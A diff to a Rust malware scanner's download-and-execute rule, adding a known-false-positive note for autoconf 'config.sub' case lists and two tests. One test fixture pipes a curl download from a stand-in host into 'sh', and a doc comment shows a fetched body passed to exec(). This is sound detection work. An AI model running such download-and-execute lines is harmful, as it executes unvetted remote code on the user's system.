@@ -45,6 +45,7 @@ diligence_finding::declare_rule! {
     /// `https.get(u, r => r.on('data', c => b += c).on('end', () => exec(b)))`
     ///
     /// ## Known false positives
+    /// A `case` pattern list that names `sh` among CPU types (autoconf's `config.sub`) is alternation, not a pipe.
     /// Installers that download a prebuilt binary and run it to check its version; checksum-verified downloads
     /// from the project's own releases, and binaries fetched from the npm registry itself (esbuild's install
     /// fallback), are low. A page's hot-reload client
@@ -506,6 +507,30 @@ mod tests {
             hits(&s, "code/download-exec").is_empty(),
             "{:?}",
             s.findings
+        );
+    }
+
+    /// autoconf's `config.sub` shape: a `case` pattern list of CPU names continued over
+    /// lines, one of them `sh`: alternation, not a download piped into a shell.
+    #[test]
+    fn negative_case_pattern_list_naming_sh() {
+        let sub = "#! /bin/sh\ncpu=$1\ncase $cpu in\n\t1750a | 580 \\\n\t| alpha | arm \\\n\t| sh | sh64 | sparc \\\n\t| x86_64)\n\t\techo ok\n\t\t;;\nesac\n";
+        let s = scan(&[("package.json", PJ), ("build/config.sub", sub)]);
+        assert!(
+            hits(&s, "code/download-exec").is_empty(),
+            "{:?}",
+            s.findings
+        );
+    }
+
+    /// A real pipe into a shell in the same kind of script still counts.
+    #[test]
+    fn positive_pipe_into_sh_in_a_script() {
+        let sub = "#! /bin/sh\ncurl -fsSL https://get.example.net/i | sh\n";
+        let s = scan(&[("package.json", PJ), ("build/setup.sh", sub)]);
+        assert_eq!(
+            hits(&s, "code/download-exec"),
+            vec![("build/setup.sh".to_string(), 2)]
         );
     }
 
